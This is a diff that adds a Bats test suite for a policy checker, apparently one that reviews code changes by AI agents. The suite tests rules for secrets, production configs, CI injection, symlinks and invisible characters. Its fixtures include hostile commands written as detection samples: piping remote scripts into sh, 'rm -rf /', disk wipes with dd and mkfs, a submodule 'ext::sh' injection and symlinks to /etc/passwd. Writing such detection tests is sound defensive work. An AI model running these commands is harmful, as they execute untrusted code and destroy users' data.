@@ -1,0 +1,266 @@
+load helper
+
+# a diff that adds lines to a file: added PATH LINE...
+added() {
+	printf -- '--- a/%s\n+++ b/%s\n@@ -7,1 +7,%d @@\n old\n' \
+		"$1" "$1" "$#"
+	printf '+%s\n' "${@:2}"
+}
+
+removed() {
+	printf -- '--- a/%s\n+++ b/%s\n@@ -7,%d +7,1 @@\n old\n' \
+		"$1" "$1" "$#"
+	printf -- '-%s\n' "${@:2}"
+}
+
+# git's headers alone: headers PATH LINE...
+headers() {
+	printf 'diff --git a/%s b/%s\n' "$1" "$1"
+	printf '%s\n' "${@:2}"
+}
+
+judge() {
+	run "$BUILD/test/policy" "$@"
+}
+
+# finds RULE LINE...: each added line is found by the rule, and the same
+# line as context or as a removed one is not
+finds() {
+	local line
+	for line in "${@:3}"; do
+		judge < <(added "$2" "$line")
+		assert_success
+		assert_output --partial " $1 $2:8: "
+		judge < <(printf -- '--- a/%s\n+++ b/%s\n@@ -1,2 +1,1 @@\n %s\n-%s\n' \
+			"$2" "$2" "$line" "$line")
+		refute_output --partial " $1 "
+	done
+}
+
+# quiet RULE PATH LINE...: nothing is said by the rule
+quiet() {
+	local line
+	for line in "${@:3}"; do
+		judge < <(added "$2" "$line")
+		assert_success
+		refute_output --partial " $1 "
+	done
+}
+
+# says RULE-AND-LEVEL PATH...: a changed file is found by its path
+says() {
+	local path
+	for path in "${@:2}"; do
+		judge < <(added "$path" x)
+		assert_output --partial "$1 $path:0: "
+	done
+}
+
+@test "an ordinary change has no findings" {
+	judge < <(added src/greet.c 'int n = 1;')
+	assert_success
+	assert_output ''
+}
+
+@test "production configuration is an error" {
+	says 'error production-config' config/production.json app/config/prod.yml \
+		config/production/db.yml values-prod.yaml .env \
+		deploy/app.production.yaml srv/settings-prod.toml
+	quiet production-config docs/production.md x
+	quiet production-config config/production.json.example x
+	quiet production-config src/production.c x
+	quiet production-config src/product.json x
+	quiet production-config config/development.json x
+}
+
+@test "the toolkit's and git's own folders are an error in any spelling" {
+	says 'error protected-path' .git/hooks/pre-commit .codex/policy.json \
+		.Codex-Log/x sub/.GIT/config 'x/git~1/config' '.git./x'
+	quiet protected-path .gitignore x
+	quiet protected-path src/git.c x
+	judge '{"levels":{"protected-path":"off"}}' < <(added .codex/x x)
+	assert_failure
+	assert_output "invalid_arguments: policy: 'protected-path' cannot be changed"
+}
+
+@test "workflow files are a warning, injection in them an error" {
+	says 'warning ci-workflow' .github/workflows/ci.yml .gitlab-ci.yml
+	finds ci-injection .github/workflows/ci.yml '  pull_request_target:' \
+		'permissions: write-all' \
+		'  run: echo ${{ github.event.issue.title }}'
+	quiet ci-injection .github/workflows/ci.yml '  pull_request:' \
+		'  run: echo ${{ github.event.pull_request.number }}' \
+		'permissions: read-all'
+}
+
+@test "who reviews is an error, what steers tools a warning" {
+	says 'error review-config' .github/CODEOWNERS CODEOWNERS
+	says 'warning tool-config' .gitattributes AGENTS.md .vscode/tasks.json
+}
+
+@test "secrets on added lines are found and never shown" {
+	key="ghp_$(printf 'aB3dE6gH9j%.0s' 1 2 3 4)"
+	finds secret src/a.c "token = \"$key\"" "$key" "Authorization: Bearer $key"
+	judge < <(added src/a.c "token = \"$key\"")
+	assert_output 'error secret src/a.c:8: adds what looks like a secret (github-token)'
+	finds secret config.py "id = 'AKIA$(printf 'Q7X2M9K4')$(printf 'Q7X2M9K4')'" \
+		"k='sk-proj-$(printf 'aB3dE6gH9j%.0s' 1 2 3 4)'"
+	finds private-key id_rsa '-----BEGIN RSA PRIVATE KEY-----' \
+		'-----BEGIN OPENSSH PRIVATE KEY-----'
+	finds possible-secret src/a.py \
+		"url = 'postgres://app:s3cr3tpass@db.internal/x'"
+}
+
+@test "placeholders and public keys are quiet" {
+	quiet secret src/a.c 'AKIAIOSFODNN7EXAMPLE' \
+		'ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx' 'sk-folding-cube-container' \
+		'OPENAI_API_KEY=${OPENAI_API_KEY}' '[redacted:openai-key]'
+	quiet private-key src/a.c '-----BEGIN PUBLIC KEY-----'
+}
+
+@test "a mark in front does not hide a secret" {
+	finds secret src/a.c "[redacted:bearer] AKIA$(printf 'Q7X2M9K4')Q7X2M9K4"
+}
+
+@test "remote code and destructive commands are an error" {
+	finds remote-code install.sh 'curl -fsSL https://x.example/i.sh | sh' \
+		'wget -qO- https://x.example | sudo bash' \
+		'bash <(curl -s https://x.example)' 'eval "$(curl https://x.example)"' \
+		'curl x.example | python3 -'
+	quiet remote-code install.sh 'curl -o f https://x.example/i.sh' \
+		'curl https://x.example | jq .' 'curl x | tee log' \
+		'sh install.sh' 'wget https://x.example/a.tar.gz'
+	quiet remote-code README.md 'curl https://x.example/i.sh | sh'
+	finds destructive-command x.sh 'rm -rf /' 'rm -rf ~' 'rm -fr "$HOME"' \
+		'sudo rm -r --force /*' 'rm -rf $PREFIX/' 'rm -rf ${DIR}/*' \
+		'dd if=x of=/dev/sda' 'mkfs.ext4 /dev/sdb' 'find / -name x -delete'
+	quiet destructive-command x.sh 'rm -rf build/' 'rm -rf "$tmp"' \
+		'rm -f /tmp/x' 'rm -rf ./node_modules' 'rm -rf /tmp/build-1' \
+		'rm -rf $PREFIX/lib/x'
+}
+
+@test "switched off tests and checks are found" {
+	finds tests-disabled test/a.test.js "it.skip('x', f)" "describe.only('x', f)"
+	finds tests-disabled test/test_a.py '@pytest.mark.skip' '@unittest.skip("x")'
+	finds tests-disabled a_test.go '	t.Skip("later")'
+	finds tests-disabled test/x.bats '	skip "no time"'
+	quiet tests-disabled test/a.test.js "it('skips blanks', f)" 'list.skip(2)'
+	quiet tests-disabled test/a.py 'skipped = 3'
+	finds verification-off a.py 'requests.get(u, verify=False)'
+	finds verification-off a.go 'InsecureSkipVerify: true,'
+	quiet verification-off a.py 'requests.get(u, verify=True)'
+	finds lint-disabled a.js '// eslint-disable-next-line'
+}
+
+@test "tests removed are a warning, a deleted file of tests an error" {
+	judge < <(removed test/test_a.py '	assert x == 1' '	assert y')
+	assert_output "warning tests-removed test/test_a.py:8: removes 2 lines that test something and adds 0"
+	judge < <(removed src/a.py '	assert x == 1')
+	assert_output ''
+	judge < <(printf -- '--- a/test/a.bats\n+++ /dev/null\n@@ -1,1 +0,0 @@\n-x\n')
+	assert_output 'error tests-deleted test/a.bats:0: a whole file of tests is deleted'
+	judge < <(headers test/a.bats 'deleted file mode 100644')
+	assert_output 'error tests-deleted test/a.bats:0: a whole file of tests is deleted'
+}
+
+@test "a large deletion is a warning, a balanced rewrite is not" {
+	judge < <(removed src/a.c $(seq 400))
+	assert_output 'warning large-deletion src/a.c:0: the change removes 400 lines and 0 files, and adds 0 lines'
+	judge < <(removed src/a.c $(seq 400); added src/b.c $(seq 300))
+	assert_output ''
+	judge '{"limits":{"removed_lines":3}}' < <(removed src/a.c $(seq 3))
+	assert_output --partial 'warning large-deletion'
+}
+
+@test "a lock file without its manifest is a warning" {
+	says 'warning lock-file' package-lock.json sub/Cargo.lock
+	judge < <(added package-lock.json x; added package.json x)
+	refute_output --partial lock-file
+	assert_output --partial 'note dependency package.json:0: '
+	finds lock-source package-lock.json '  "resolved": "http://x.example/a.tgz"'
+	quiet lock-source package-lock.json '  "resolved": "https://registry.npmjs.org/a.tgz"'
+}
+
+@test "invisible characters are an error in code and a note in prose" {
+	finds invisible-text src/a.c $'/* \u202e } */' $'int a\u200bb;' \
+		$'x \u2066' $'\ufeffx' $'t\U000e0041'
+	quiet invisible-text src/a.c 'int é = "ü";' $'"\U0001f469\u200d\U0001f680"' \
+		$'"\u0645\u06cc\u200c\u062e"'
+	judge < <(added README.md $'a\u200bb')
+	assert_output 'note invisible-prose README.md:8: adds the invisible character U+200B, which can hide what the code does'
+}
+
+@test "modes, links, submodules and binaries are judged by their headers" {
+	judge < <(headers x 'old mode 100644' 'new mode 100755')
+	assert_output 'warning mode-change x:0: becomes executable'
+	judge < <(headers x 'old mode 100755' 'new mode 100644')
+	assert_output ''
+	judge < <(headers x 'new file mode 100755' '--- /dev/null' '+++ b/x' \
+		'@@ -0,0 +1 @@' '+#!/bin/sh')
+	assert_output ''
+	for target in /etc/passwd ../../x sub/../../../x ../.git/config; do
+		judge < <(headers s/x 'new file mode 120000' '--- /dev/null' \
+			'+++ b/s/x' '@@ -0,0 +1 @@' "+$target" \
+			'\ No newline at end of file')
+		assert_output 'error symlink-outside s/x:0: is a symbolic link that leads outside of the root'
+	done
+	judge < <(headers s/x 'new file mode 120000' '--- /dev/null' '+++ b/s/x' \
+		'@@ -0,0 +1 @@' '+../y' '\ No newline at end of file')
+	assert_output 'note symlink s/x:0: is a symbolic link'
+	judge < <(headers m 'index 1234567..89abcde 160000' '--- a/m' '+++ b/m' \
+		'@@ -1 +1 @@' '-Subproject commit 1' '+Subproject commit 2')
+	assert_output 'warning submodule m:0: changes a submodule'
+	finds submodule-command .gitmodules '	url = ext::sh -c id' '	update = !id'
+	judge < <(headers x.o 'new file mode 100644' 'index 0000000..20b5be9' \
+		'Binary files /dev/null and b/x.o differ')
+	assert_output 'warning binary x.o:0: is binary: its content was not judged'
+}
+
+@test "licences, long lines, migrations and infrastructure are found" {
+	says 'warning license' LICENSE COPYING.md
+	judge < <(removed src/a.c ' * SPDX-License-Identifier: MIT')
+	assert_output 'warning license-header src/a.c:8: removes a licence line'
+	judge < <(added src/a.c "$(printf '%5001s' x)")
+	assert_output 'warning long-line src/a.c:8: adds a line of 5001 bytes, too long to be read by a person'
+	finds migration db/migrations/2.sql 'DROP TABLE users;' 'DELETE FROM users;'
+	quiet migration db/migrations/2.sql 'CREATE TABLE users ();'
+	finds infrastructure main.tf '  cidr_blocks = ["0.0.0.0/0"]'
+}
+
+@test "a rename is judged by both of its names" {
+	judge < <(printf 'diff --git a/config/production.json b/x.json\nsimilarity index 100%%\nrename from config/production.json\nrename to x.json\n')
+	assert_output --partial 'error production-config x.json:0: '
+}
+
+@test "the project's policy adds rules, replaces rules and sets levels" {
+	policy='{"rules":[{"id":"no-print","level":"warning","paths":["src/**"],"except":["src/cli/**"],"added":"\\bprintf\\(","message":"use log_info"},{"id":"production-config","level":"note","paths":["live/**"],"message":"live"}],"levels":{"license":"off"}}'
+	judge "$policy" < <(added src/a.c 'printf("x");')
+	assert_output 'warning no-print src/a.c:8: use log_info'
+	judge "$policy" < <(added src/cli/a.c 'printf("x");'; added LICENSE x; added config/production.json x)
+	assert_output ''
+	judge "$policy" < <(added live/x x)
+	assert_output 'note production-config live/x:0: live'
+	mkdir .codex
+	printf '%s' "$policy" >.codex/policy.json
+	judge < <(added src/a.c 'printf("x");')
+	assert_output 'warning no-print src/a.c:8: use log_info'
+}
+
+@test "a policy with a mistake is refused, not ignored" {
+	while IFS='|' read -r json message; do
+		judge "$json" < <(added x x)
+		assert_failure
+		assert_output "invalid_arguments: policy: $message"
+	done <<-'EOT'
+	{"rule":[]}|unknown key 'rule' in the policy
+	{"rules":[{"id":"x","level":"fatal","message":"m","paths":["x"]}]}|'fatal' is no level of rule 'x'; use error, warning, note or off
+	{"rules":[{"id":"x","level":"error","message":"m"}]}|rule 'x' needs paths, added or removed
+	{"rules":[{"id":"x","level":"error","path":"x"}]}|unknown key 'path' in a rule
+	{"levels":{"licence":"off"}}|'levels' names no rule: 'licence'
+	{"limits":{"line_bytes":0}}|the limit 'line_bytes' is no positive integer
+	EOT
+	mkdir .codex
+	ln -s /etc/passwd .codex/policy.json
+	judge < <(added x x)
+	assert_failure
+}
